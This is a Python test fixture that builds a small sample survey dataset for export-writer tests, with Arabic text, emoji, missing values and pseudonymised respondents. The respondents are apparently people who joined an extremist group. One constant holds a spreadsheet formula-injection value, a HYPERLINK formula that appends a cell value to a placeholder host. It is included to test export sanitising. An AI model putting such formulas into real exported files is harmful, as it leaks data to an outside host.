"""A small neutral dataset for the export writers' tests: Arabic script, emoji, gaps."""

from __future__ import annotations

from store.datasets import Cell, Code, Dataset, Document, Selection, Variable, VariableType

ARABIC = "قال أبو عمر إنه غادر الرقة"
EMOJI = "He smiled 🙂 and said 👨‍👩‍👧 was safe."
FORMULA = '=HYPERLINK("http://example.invalid/?"&[PERSON 1],"Open")'
"""A short text answer a spreadsheet would run as a formula."""


def _document(row_id: str, body: str) -> Document:
    heading = "Narrative\n\n"
    text = heading + body + "\n"
    start = text.index(body)
    emoji_at = text.find("🙂")
    selections = [Selection(start, start + len(body), "section_narrative", "Narrative")]
    if emoji_at >= 0:
        selections.append(Selection(emoji_at, emoji_at + 1, "motivation_2", "smile"))
    return Document(row_id, row_id, text, tuple(selections))


def sample_dataset() -> Dataset:
    """Four respondents: coded answers with labels, a missing code, numbers, strings, texts."""
    variables = (
        Variable("respondent", "Respondent (export id)", VariableType.STRING, required=True),
        Variable(
            "region",
            "Where do they come from?",
            VariableType.INTEGER,
            ((1, "Local: Syria or Iraq"), (3, "Western country"), (99, "Prefers not to say")),
            description="Generalised from country of origin.",
            missing_values=(99,),
        ),
        Variable(
            "motivations_2",
            "Why did they join?: Building an Islamic state under Sharia",
            VariableType.INTEGER,
            ((0, "Not chosen"), (1, "Chosen")),
        ),
        Variable("months", "Months in the group", VariableType.INTEGER, minimum=0, maximum=360),
        Variable("credibility_score", "A decimal score", VariableType.NUMBER),
        Variable("group_other", "Which other group? (redacted)", VariableType.STRING),
    )
    rows: tuple[dict[str, Cell], ...] = (
        {
            "respondent": "R-AAAA",
            "region": 1,
            "motivations_2": 1,
            "months": 14,
            "credibility_score": 3.5,
            "group_other": ARABIC,
        },
        {
            "respondent": "R-BBBB",
            "region": 3,
            "motivations_2": 0,
            "months": None,
            "credibility_score": None,
            "group_other": None,
        },
        {
            "respondent": "R-CCCC",
            "region": None,
            "motivations_2": 1,
            "months": 2,
            "credibility_score": 1.25,
            "group_other": '[PERSON 1], a, "quoted"',
        },
        {
            "respondent": "R-DDDD",
            "region": 99,
            "motivations_2": None,
            "months": 0,
            "credibility_score": -2.5,
            "group_other": FORMULA,
        },
    )
    codes = (
        Code(
            "sections",
            "Sections",
            "Parts of the testimony",
            (Code("section_narrative", "Narrative"),),
            codable=False,
        ),
        Code(
            "motivations",
            "Why did they join?",
            children=(Code("motivation_2", "Building an Islamic state under Sharia"),),
            codable=False,
        ),
    )
    documents = (
        _document("R-AAAA", ARABIC + " [PERSON 1] " + EMOJI),
        _document("R-CCCC", "Plain English text about [PLACE 2]."),
    )
    return Dataset(
        name="sample-1",
        title="Sample export",
        id_variable="respondent",
        variables=variables,
        rows=rows,
        documents=documents,
        codes=codes,
        description="A test dataset.",
    )
